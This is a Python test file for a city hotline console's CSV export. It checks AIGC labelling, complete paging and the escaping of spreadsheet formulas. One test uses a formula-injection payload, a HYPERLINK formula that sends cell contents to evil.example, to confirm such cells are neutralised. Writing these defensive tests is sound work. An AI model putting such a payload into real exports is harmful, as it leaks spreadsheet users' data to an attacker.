"""Taking data away: labelled at the head, safe in a spreadsheet, whole."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from console import export
from console.ports import TicketPage, TrendTable
from schemas.desk import TicketSummary, TrendCell
from tests.unit.console.house import CITY, House


def line(n: int, title: str = "停水", **other: Any) -> TicketSummary:
    return TicketSummary(
        id=f"t{n}", ticket_no=f"YL20261121-{n:06d}", state="dispatched", title=title, kind="complaint",
        category="", category_name="供水", district=CITY.places[0].code, lead_unit_name="市水务局", urgency="urgent",
        created_at="2026-11-21T02:00:00Z", **other,
    )  # fmt: skip


def serve_pages(house: House, monkeypatch: pytest.MonkeyPatch, *pages: list[TicketSummary]) -> list[str]:
    """The store gives these pages, one cursor after the other."""
    asked: list[str] = []

    async def tickets(actor: Any, query: Any) -> TicketPage:
        asked.append(query.cursor)
        at = int(query.cursor or 0)
        following = str(at + 1) if at + 1 < len(pages) else ""
        return TicketPage(tickets=tuple(pages[at]), total=sum(map(len, pages)), next=following)

    monkeypatch.setattr(house.store, "tickets", tickets)
    return asked


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(export.BOM), newline="")))


@pytest.mark.g04
@pytest.mark.parametrize("path", ["/api/tickets.csv", "/api/trends.csv?since=2026-01-01&until=2026-12-01"])
async def test_every_export_carries_the_label_for_people_and_for_programs_through_save_and_reopen(
    house: House, path: str
) -> None:
    analyst = await house.person("ana", "analyst")
    answer = await analyst.get(path)
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    assert answer.content.startswith(b"\xef\xbb\xbf")
    saved = io.StringIO()
    csv.writer(saved).writerows(rows_of(answer.content.decode()))  # opened and saved by another program
    explicit, implicit, *_ = rows_of(saved.getvalue())
    assert "人工智能生成" in explicit[0] and "ana先生" in explicit[0]
    label = json.loads(implicit[0].removeprefix("# "))["AIGC"]
    assert label["Label"] == "1" and label["ContentProducer"] == "云岚市12345热线" and label["ProduceID"]


async def test_all_pages_are_in_the_file_in_order(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
    asked = serve_pages(house, monkeypatch, [line(1), line(2)], [line(3)], [line(4, label="人工智能辅助生成")])
    answer = await (await house.person("boss", "supervisor")).get("/api/tickets.csv?state=dispatched")
    head, *rows = rows_of(answer.text)[2:]
    assert head == list(export.TICKET_HEAD)
    assert [row[0] for row in rows] == [f"YL20261121-00000{n}" for n in (1, 2, 3, 4)]
    assert asked == ["", "1", "2"]
    assert rows[0][3] == "投诉" and rows[0][5] == CITY.places[0].name and rows[3][-1] == "人工智能辅助生成"
    assert "attachment" in answer.headers["content-disposition"]


async def test_an_export_cut_short_is_not_taken_for_whole(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
    async def tickets(actor: Any, query: Any) -> TicketPage:
        if query.cursor:
            raise RuntimeError("李雷 13800001111")
        return TicketPage(tickets=(line(1),), total=2, next="more")

    monkeypatch.setattr(house.store, "tickets", tickets)
    boss = await house.person("boss", "supervisor")
    with pytest.raises(Exception) as cut:  # the connection breaks, a browser marks the download as failed
        await boss.get("/api/tickets.csv")
    assert "李雷" not in repr(cut.value)


async def test_a_formula_in_a_title_is_only_text(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    serve_pages(house, monkeypatch, [line(1, title=attack, caller_name="@SUM(1+1)")])
    row = rows_of((await (await house.person("boss", "supervisor")).get("/api/tickets.csv")).text)[-1]
    assert row[2] == f"'{attack}" and row[10] == "'@SUM(1+1)"


@pytest.mark.parametrize(
    "cell", ["=1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", " =1", '"=1', "'=1", "＝1", "＋1", "－1", "＠x", "　=1"]
)
def test_whatever_a_spreadsheet_may_run_is_made_text(cell: str) -> None:
    assert export.safe_cell(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "停水", "a=1", "13800001111", "3-5号楼", "云岚市"])
def test_plain_text_stays_as_it_is(cell: str) -> None:
    assert export.safe_cell(cell) == cell


@settings(deadline=None)
@example([["'=", "'停水", "''", "="]])
@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")), min_size=1)))
def test_any_text_comes_back_whole_and_never_first_a_trigger(rows: list[list[str]]) -> None:
    back = rows_of(export.lines(rows))
    assert [[cell.removeprefix("'") for cell in row] for row in back] == rows
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for row in back for cell in row)


def test_trends_are_written_with_names_for_codes() -> None:
    place, category = CITY.places[0], CITY.categories[0]
    table = TrendTable(
        cells=(TrendCell(bucket="2026-11", district=place.code, category=category.code, count=7),), total=7, synthetic=0
    )
    assert list(export.trend_rows(table, export.names_of(CITY))) == [("2026-11", place.name, category.name, "7")]
